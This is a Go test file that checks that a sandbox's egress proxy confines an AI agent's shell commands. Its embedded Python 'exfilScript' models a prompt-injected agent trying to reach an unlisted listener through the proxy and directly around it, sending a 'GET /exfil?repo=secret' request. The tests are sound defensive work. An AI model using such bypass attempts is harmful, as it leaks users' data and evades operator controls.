package sandbox_test

import (
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/fixrail/fixrail/internal/sandbox"
	"github.com/fixrail/fixrail/internal/sandbox/egress"
)

// exfilScript is what a prompt-injected agent with a shell tries: the
// model API through the proxy (allowed), then a second listener through
// the proxy, then the same listener directly, then the model API's port
// directly, around the proxy.
const exfilScript = `
import os, socket, sys, urllib.request
a, b = int(sys.argv[1]), int(sys.argv[2])
print("model:", urllib.request.urlopen("http://127.0.0.1:%d/v1/messages" % a, timeout=10).read().decode())
s = socket.create_connection(("127.0.0.1", 3128), 5)
s.sendall(("CONNECT 127.0.0.1:%d HTTP/1.1\r\nHost: x\r\n\r\n" % b).encode())
print("connect-other:", s.recv(300).split(b"\r\n")[0].decode())
for name, port in (("other", b), ("model", a)):
    try:
        c = socket.create_connection(("127.0.0.1", port), 3)
        c.sendall(b"GET /exfil?repo=secret HTTP/1.0\r\n\r\n")
        print("direct-%s: connected" % name)
    except OSError as e:
        print("direct-%s: %s" % (name, e))
print("proxy env:", os.environ.get("HTTPS_PROXY"), os.environ.get("NO_PROXY"))
`

// countingServer is an HTTP server on the host's loopback that counts the
// connections it accepts.
func countingServer(t *testing.T, body string) (port int, accepted *atomic.Int64) {
	t.Helper()
	accepted = new(atomic.Int64)
	srv := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, body)
	}))
	srv.Config.ConnState = func(_ net.Conn, s http.ConnState) {
		if s == http.StateNew {
			accepted.Add(1)
		}
	}
	srv.Start()
	t.Cleanup(srv.Close)
	port = srv.Listener.Addr().(*net.TCPAddr).Port
	return port, accepted
}

// TestSandboxEgress: a sandboxed command reaches the listed listener through
// the proxy and nothing else — not a second listener through the proxy, not
// either listener around it — and every request through the proxy is
// recorded. The exfiltration is the second listener: it must see nothing.
func TestSandboxEgress(t *testing.T) {
	requireBwrap(t)
	wt := t.TempDir()
	modelPort, modelSeen := countingServer(t, "model says hi")
	otherPort, otherSeen := countingServer(t, "exfiltrated")
	var mu sync.Mutex
	var events []egress.Event
	pol := &egress.Policy{
		Allow:  []egress.Target{{Host: "127.0.0.1", Port: modelPort}},
		Record: func(e egress.Event) { mu.Lock(); events = append(events, e); mu.Unlock() },
	}
	env := []string{"PATH=/usr/bin:/bin", "NO_PROXY=127.0.0.1", "HTTPS_PROXY=http://operator-proxy:8080"}
	res, err := sandbox.Run(t.Context(), sandbox.Cmd{
		Args:    []string{"python3", "-c", exfilScript, strconv.Itoa(modelPort), strconv.Itoa(otherPort)},
		Dir:     wt,
		Env:     env,
		Timeout: 30 * time.Second,
		Sandbox: &sandbox.Spec{Mode: sandbox.Required, RW: []string{wt}, Egress: pol},
	})
	if err != nil || !res.Sandboxed || !res.Success() {
		t.Fatalf("Run = %+v, %v", res, err)
	}
	out := res.Stdout
	for _, want := range []string{
		"model: model says hi",
		"connect-other: HTTP/1.1 403 Forbidden",
		"direct-other: [Errno 111]",
		"direct-model: [Errno 111]",
		"proxy env: http://127.0.0.1:3128 None",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("output lacks %q:\n%s", want, res.Output())
		}
	}
	if n := otherSeen.Load(); n != 0 {
		t.Errorf("the second listener accepted %d connections: the sandbox leaked", n)
	}
	if n := modelSeen.Load(); n != 1 {
		t.Errorf("the model listener accepted %d connections, want 1 (through the proxy)", n)
	}
	mu.Lock()
	defer mu.Unlock()
	if len(events) != 2 {
		t.Fatalf("events %+v, want 2", events)
	}
	verdicts := map[string]egress.Event{}
	for _, e := range events {
		verdicts[e.Verdict] = e
	}
	if e := verdicts[egress.Allowed]; e.Port != modelPort || e.Method != "GET" || e.Up == 0 || e.Down == 0 {
		t.Errorf("allowed event %+v", e)
	}
	if e := verdicts[egress.Refused]; e.Port != otherPort || e.Method != "CONNECT" || e.Host != "127.0.0.1" {
		t.Errorf("refused event %+v", e)
	}
}

// TestSandboxEgressExitStatus: behind the forwarder the command's exit
// status and a signal's 128+n come through as bwrap reports them without it.
func TestSandboxEgressExitStatus(t *testing.T) {
	requireBwrap(t)
	wt := t.TempDir()
	for script, want := range map[string]int{"exit 7": 7, "kill -TERM $$": 128 + 15, "cat": 0} {
		res, err := sandbox.Run(t.Context(), sandbox.Cmd{
			Args:    []string{"/bin/sh", "-c", script},
			Dir:     wt,
			Env:     []string{"PATH=/usr/bin:/bin"},
			Stdin:   []byte("in"),
			Timeout: 20 * time.Second,
			Sandbox: &sandbox.Spec{Mode: sandbox.Required, RW: []string{wt}, Egress: &egress.Policy{}},
		})
		if err != nil || res.ExitCode != want {
			t.Errorf("%q: exit %d (%v), want %d\n%s", script, res.ExitCode, err, want, res.Output())
		}
		if script == "cat" && res.Stdout != "in" {
			t.Errorf("stdin did not reach the command: %q", res.Stdout)
		}
	}
}
